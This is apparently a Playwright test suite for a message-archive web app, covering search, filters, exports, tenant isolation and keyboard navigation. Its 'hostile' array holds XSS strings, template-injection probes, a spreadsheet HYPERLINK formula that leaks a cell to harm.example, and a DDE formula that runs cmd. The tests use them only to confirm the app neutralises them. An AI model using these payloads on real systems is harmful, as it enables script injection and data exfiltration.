import { createHash } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import type { Download, Page } from '@playwright/test'
import { parse } from 'csv-parse/sync'
import readXlsx from 'read-excel-file/node'
import { captureHistory, messageOf } from '@verbatim/server/testing/history.ts'
import { expectShare } from '#column-share.ts'
import { expect, type Story, test } from '#world.ts'

const client = '+15550991001'

const hostile = [
  '<img src=x onerror="window.harmed=1">',
  '<script>window.harmed=1</script>',
  'right \u202Eot tfel\u202C and back',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '=HYPERLINK("http://harm.example/?"&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'a "quoted", comma; semi\tand tab',
]

const library = (page: Page) => page.getByRole('table', { name: 'Content Library' })
const rows = (page: Page) => library(page).getByRole('link', { name: /^Message from / })
const search = (page: Page) => page.getByRole('searchbox', { name: 'Search messages' })
const overview = (page: Page) => page.getByRole('dialog')

/** Signs in and opens the messages. */
async function openLibrary(page: Page, story: Story): Promise<void> {
  await story.signIn(page)
  await page.goto(`${story.origin}/messages`)
  await expect(page.getByRole('heading', { name: 'Content Library', level: 1 })).toBeVisible()
}

/** axe finds nothing, wide and narrow. */
async function checkAccessEverywhere(page: Page, story: Story): Promise<void> {
  await story.checkAccess(page)
  await page.setViewportSize({ width: 390, height: 844 })
  await story.checkAccess(page)
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)
  expect(overflow).toBeLessThanOrEqual(0)
  await page.setViewportSize({ width: 1440, height: 900 })
}

/** The ID of the newest message that a compliance user sees. */
async function newestMessage({
  installation,
  tenant,
}: Story): Promise<{ id: string; conversationId: string }> {
  const caller = await installation.world.as(tenant, tenant.users.compliance)
  const { json } = await caller.call('GET', '/bff/api/v1/messages?limit=1')
  return json.items[0]
}

test('a search in Chinese finds the message and highlights the words, in the list and in the message @second-path', async ({
  page,
  story,
}) => {
  await story.deliver({ from: client, body: '请把新的报价发给我，我们下周见面再谈。' })
  await story.deliver({ from: client, body: '谢谢，下周见。' })
  await openLibrary(page, story)
  await expect(rows(page)).toHaveCount(2)
  await expectShare(library(page), 'Content')
  await checkAccessEverywhere(page, story)

  await search(page).fill('报价')
  await expect(rows(page)).toHaveCount(1)
  await expect(library(page).locator('mark')).toHaveText('报价')
  await expect(page).toHaveURL(/search=/)

  await rows(page).first().click()
  await expect(page.getByRole('heading', { name: /^Message from/, level: 1 })).toBeVisible()
  await expect(page.getByRole('main').locator('mark')).toHaveText('报价')
  await expect(page.getByRole('main')).toContainText('谢谢，下周见。')
  await checkAccessEverywhere(page, story)

  await page.getByRole('link', { name: 'Content Library' }).last().click()
  await expect(search(page)).toHaveValue('报价')
  await page.getByRole('button', { name: 'How to search' }).click()
  await expect(page.getByRole('heading', { name: 'How to search' })).toBeVisible()
  await page.keyboard.press('Escape')
  await search(page).fill('"下周见" NOT 谢谢')
  await expect(rows(page)).toHaveCount(1)
  await search(page).fill('OR ( NOT "')
  await expect(page.getByText('No messages match')).toBeVisible()
})

test('conditions and period are in the address, and a reload shows the same', async ({ page, story }) => {
  await story.deliver({ from: client, body: 'Where is my statement? I need it today!' })
  await openLibrary(page, story)
  await expect(rows(page)).toHaveCount(1)
  await page.keyboard.press('f')
  await page.getByRole('dialog').getByRole('button', { name: 'Channel', exact: true }).click()
  await page.getByRole('checkbox', { name: 'WeCom' }).check()
  await page.getByRole('button', { name: 'Apply' }).click()
  await expect(page.getByText('No messages match')).toBeVisible()
  await page.getByRole('button', { name: /^Last 30 days/ }).click()
  await page.getByRole('button', { name: 'All time' }).click()
  await expect(page).toHaveURL(/filter=.*wecom.*period=all|period=all.*filter=.*wecom/)
  await page.reload()
  await expect(page.getByText('No messages match')).toBeVisible()
  await expect(page.getByRole('button', { name: /Channel\s*is\s*WeCom/ })).toBeVisible()
  await page.getByRole('button', { name: 'Clear all' }).click()
  await expect(rows(page)).toHaveCount(1)
})

test('an invalid address shows no rows, and a page past the end becomes the last one @second-path', async ({
  page,
  story,
}) => {
  await story.deliver({ from: client, body: 'Where is my statement?' })
  await story.signIn(page)
  await page.goto(`${story.origin}/messages?filter=chanelType[eq]:wecom`)
  await expect(page.getByText('This link has a filter that can’t be read')).toBeVisible()
  await expect(page.getByText('Not understood: chanelType[eq]:wecom')).toBeVisible()
  await expect(rows(page)).toHaveCount(0)
  await expect(page.getByRole('button', { name: 'Export' })).toBeDisabled()
  await story.checkAccess(page)
  await page.getByRole('button', { name: /^Remove the invalid filter/ }).click()
  await expect(rows(page)).toHaveCount(1)
  await page.goto(`${story.origin}/messages?page=9`)
  await expect(rows(page)).toHaveCount(1)
  await expect(page).toHaveURL(`${story.origin}/messages`)
})

test('new messages are announced quietly, and appear on request @second-path', async ({ page, story }) => {
  await story.deliver({ from: client, body: 'The first.' })
  await openLibrary(page, story)
  await expect(rows(page)).toHaveCount(1)
  await story.deliver({ from: client, body: 'The second, without a reload.' })
  const arrived = page.getByRole('button', { name: '1 new' })
  await expect(arrived).toBeVisible()
  await expect(rows(page)).toHaveCount(1)
  await arrived.click()
  await expect(rows(page)).toHaveCount(2)
  await expect(arrived).toBeHidden()
})

/** Requests an export and waits for its file. */
async function exported(page: Page, format: 'CSV' | 'Excel (XLSX)'): Promise<Download> {
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export' }).click()
  await page.getByRole('menuitem', { name: format }).click()
  return download
}

test('an export downloads in the chosen format, and opens with every text unchanged', async ({
  page,
  story,
}) => {
  for (const body of hostile) await story.deliver({ from: client, body })
  await openLibrary(page, story)
  await expect(rows(page)).toHaveCount(hostile.length)

  const xlsx = await readFile(await (await exported(page, 'Excel (XLSX)')).path())
  const card = page.getByRole('region', { name: 'Exports' }).getByRole('article')
  await expect(card).toContainText(`${hostile.length} rows`)
  await expect(card).toContainText('Its checksum matches.')
  const details = card.getByRole('button', { name: /^Details of/ })
  await details.click()
  await expect(card.locator('code')).toHaveText(createHash('sha256').update(xlsx).digest('hex'))
  await expect(card).toContainText(
    'Nothing was received from 2 accounts: Desk WhatsApp (WhatsApp Business), Journal (Archive journal)',
  )
  await checkAccessEverywhere(page, story)
  const [sheet] = await readXlsx(xlsx)
  const [heading, ...lines] = sheet?.data ?? []
  const content = heading?.indexOf('Content') ?? -1
  expect(lines.map((line) => String(line[content])).sort()).toEqual([...hostile].sort())

  await card.getByRole('button', { name: 'Dismiss' }).click()
  const csv = await readFile(await (await exported(page, 'CSV')).path())
  await details.click()
  await expect(card.locator('code')).toHaveText(createHash('sha256').update(csv).digest('hex'))
  const table: Record<string, string>[] = parse(csv, { columns: true, bom: true })
  // An apostrophe turns a formula into text for a spreadsheet; other texts are unchanged.
  const inert = hostile.map((text) => (/^[=+\-@]/.test(text) ? `'${text}` : text))
  expect(table.map((line) => line['Content'] ?? '').sort()).toEqual(inert.sort())
})

test('hostile texts are shown as written everywhere, and have no effect', async ({ page, story }) => {
  page.on('dialog', () => expect.soft(false, 'a text opened a dialog').toBe(true))
  for (const body of hostile) await story.deliver({ from: client, body })
  await openLibrary(page, story)
  await expect(rows(page)).toHaveCount(hostile.length)
  for (const body of hostile)
    await expect(library(page).getByText(body.replace(/\s+/g, ' '), { exact: true })).toBeVisible()
  // The middle one is among all the others.
  await rows(page).nth(3).click()
  const thread = page.getByRole('region', { name: 'In its conversation' })
  const texts = () => thread.locator('span[dir=auto]').evaluateAll((all) => all.map((one) => one.textContent))
  await expect(thread.getByRole('article')).toHaveCount(hostile.length)
  expect((await texts()).sort()).toEqual([...hostile].sort())
  await page.getByRole('link', { name: 'Open conversation' }).click()
  for (const body of hostile)
    await expect(overview(page).getByRole('article').filter({ hasText: body })).toBeVisible()
  await page.keyboard.press('Escape')

  for (const body of hostile) {
    await page.goto(`${story.origin}/messages?search=${encodeURIComponent(body)}`)
    await expect(search(page)).toHaveValue(body)
    await expect(page.getByRole('heading', { name: 'Content Library' })).toBeVisible()
  }
  expect(await page.evaluate(() => 'harmed' in window)).toBe(false)
})

test('another organization finds nothing of it, by search or by address @second-path', async ({
  page,
  story,
}) => {
  await story.deliver({ from: client, body: 'The merger closes on Friday.' })
  const { id, conversationId } = await newestMessage(story)
  const stranger = await story.installation.world.makeTenant(`${story.tenant.label}other`)
  const origin = story.origin.replace(story.tenant.label, stranger.label)
  await story.signIn(page, 'super_admin', stranger)
  await page.goto(`${origin}/messages?period=all&search=merger`)
  await expect(page.getByText('No messages match')).toBeVisible()
  const guard = page.getByText("Oops! Message with specified ID doesn't exist...")
  await page.goto(`${origin}/messages/${id}`)
  await expect(guard).toBeVisible()
  await expect(page.getByText(/^Request /)).toBeVisible()
  await story.checkAccess(page)
  await page.getByRole('link', { name: 'Go back' }).click()
  await expect(guard).toBeHidden()
  await page.goto(`${origin}/messages?conversation=${conversationId}`)
  await expect(overview(page).getByText("Oops! Entity with specified ID doesn't exist...")).toBeVisible()
  await story.checkAccess(page)
})

test('a conversation opens over the list, is read and searched by keyboard, and closes at the same row', async ({
  page,
  story,
}) => {
  const said = [
    'Could you send me the quarterly report for the balanced portfolio?',
    'The balanced portfolio lost four percent in the third quarter.',
    'Then please move half of the balanced portfolio into bonds.',
  ]
  for (const body of said) await story.deliver({ from: client, body })
  await openLibrary(page, story)
  await expect(rows(page)).toHaveCount(3)
  const opener = library(page)
    .getByRole('link', { name: /^Open the conversation/ })
    .nth(1)
  await opener.click()
  await expect(page).toHaveURL(/conversation=/)
  const messages = overview(page).getByRole('article')
  await expect(messages).toHaveCount(3)
  await expect(overview(page).getByText('3 messages', { exact: true })).toBeVisible()
  await expect(overview(page).getByText(/Quoted word for word/)).toBeVisible()
  await checkAccessEverywhere(page, story)

  await page.getByRole('region', { name: 'Messages of the conversation' }).focus()
  await page.keyboard.press('ArrowDown')
  await expect(messages.filter({ hasText: said[1]! })).toBeFocused()
  await page.keyboard.press('ArrowUp')
  await expect(messages.filter({ hasText: said[0]! })).toBeFocused()

  await overview(page).getByRole('searchbox').fill('portfolio NOT lost')
  await page.keyboard.press('Enter')
  await expect(overview(page).getByText('1 of 2')).toBeVisible()
  await expect(overview(page).locator('[data-current] mark')).toHaveText('portfolio')
  await overview(page).getByRole('button', { name: 'Previous match' }).click()
  await expect(overview(page).getByText('2 of 2')).toBeVisible()

  const sentence = overview(page).getByRole('complementary').getByRole('link').first()
  await sentence.click()
  await expect(sentence).toHaveAttribute('aria-current', 'true')

  await page.keyboard.press('Escape')
  await expect(overview(page)).toBeHidden()
  await expect(page).not.toHaveURL(/conversation=/)
  await expect(opener).toBeFocused()
})

test('a match in a subject is highlighted in the list and in the message, and an analyst filters by account @second-path', async ({
  page,
  story,
}) => {
  const { world } = story.installation
  const found = messageOf(world, { subject: 'Your zebra crossing', body: 'Nothing else.' })
  await captureHistory(world, story.tenant, [found])
  await story.signIn(page, 'analyst')
  await page.goto(`${story.origin}/messages?search=zebra`)
  await expect(rows(page)).toHaveCount(1)
  await expect(library(page).locator('mark')).toHaveText(['zebra'])
  await rows(page).click()
  await expect(page.locator('h1 mark')).toHaveText(['zebra'])
  await expect(page.locator('article p mark')).toHaveText(['zebra'])

  const caller = await world.as(story.tenant, story.tenant.users.analyst)
  const { status, json } = await caller.call('GET', '/bff/api/v1/message-sources?kind=account')
  expect(status).toBe(200)
  const [account] = json.items
  await page.goto(`${story.origin}/messages?filter=accountId[eq]:${account.id}`)
  await expect(page.getByText(account.name).first()).toBeVisible()
})
